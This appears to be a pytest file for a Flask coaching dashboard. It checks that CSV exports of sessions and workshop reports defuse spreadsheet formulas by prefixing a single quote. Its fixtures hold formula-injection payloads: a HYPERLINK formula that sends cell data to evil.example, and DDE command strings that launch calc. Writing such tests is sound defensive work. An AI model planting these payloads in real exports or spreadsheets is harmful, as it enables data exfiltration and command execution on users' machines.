"""Every CSV download neutralises spreadsheet formulas: what a casemanager typed (or
was named) cannot run in the trainer's spreadsheet (OWASP's leading single quote)."""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient
from sqlalchemy import select
from sqlalchemy.engine import Engine

from gesprekscoach.csvsafe import FORMULA_STARTS, to_csv
from gesprekscoach.domain import Catalogues
from gesprekscoach.storage.db import session_factory
from gesprekscoach.storage.models import Casemanager, PracticeSession, TurnRecord, Workshop
from tests.dashboard.conftest import login
from tests.dashboard.workshop_data import logged_group

NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
TEXT = "+cmd|' /C calc'!A0"
REPLY = "@SUM(1+1)*cmd|' /C calc'!A0"
COACHING = "-2+3"
TAB = "\t=1+1"
CR = "\r=1+1"


def rows_of(client: FlaskClient, path: str) -> list[list[str]]:
    response = client.get(path)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_STARTS), f"formula cell: {value!r}"


def hostile_session(engine: Engine) -> None:
    with session_factory(engine)() as db, db.begin():
        session = db.get(PracticeSession, "s1")
        assert session is not None
        session.casemanager.display_name = NAME
        session.persona_type = TAB
        session.mode = CR
        turn = db.execute(select(TurnRecord).where(TurnRecord.session_id == "s1")).scalars().first()
        assert turn is not None
        turn.text, turn.reply, turn.coaching = TEXT, REPLY, [COACHING]


def test_the_session_list_and_one_session_export_no_formulas(
    client: FlaskClient, engine: Engine
) -> None:
    hostile_session(engine)
    login(client)
    listing = rows_of(client, "/export/sessions.csv")
    assert_no_formula(listing)
    header = listing[0]
    (row,) = [r for r in listing if r[0] == "s1"]
    assert row[1] == "'" + NAME, "quoted and escaped as a whole, with the single quote in front"
    assert (row[header.index("type")], row[header.index("stand")]) == ("'" + TAB, "'" + CR)
    turns = rows_of(client, "/sessions/s1/export.csv")
    assert_no_formula(turns)
    assert turns[1][1] == "'" + TEXT and turns[1][5] == "'" + REPLY
    assert turns[1][10] == "'" + COACHING
    assert turns[1][0] == "1" and turns[2][1] == "Conform de beschikking.", "the rest as it was"


def test_the_workshop_report_exports_no_formulas(
    client: FlaskClient, engine: Engine, catalogues: Catalogues
) -> None:
    ident, _, _ = logged_group(engine, catalogues)
    with session_factory(engine)() as db, db.begin():
        workshop = db.get(Workshop, ident)
        assert workshop is not None
        workshop.show_names = True
        eva = db.get(PracticeSession, "w-eva-1")
        assert eva is not None
        person = db.get(Casemanager, eva.casemanager_id)
        assert person is not None
        person.display_name = NAME
    login(client)
    rows = rows_of(client, f"/werkateliers/{ident}/verslag.csv")
    assert_no_formula(rows)
    (compared,) = [r for r in rows if r and r[0] == "vergelijking"]
    assert compared[1] == "'" + NAME


def test_the_helper_keeps_numbers_and_plain_text() -> None:
    text = to_csv([["a,b", 'zei "ja"', -3, 1.5, "", None, "=1", "x=1"]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["a,b", 'zei "ja"', "-3", "1.5", "", "", "'=1", "x=1"]
    ]
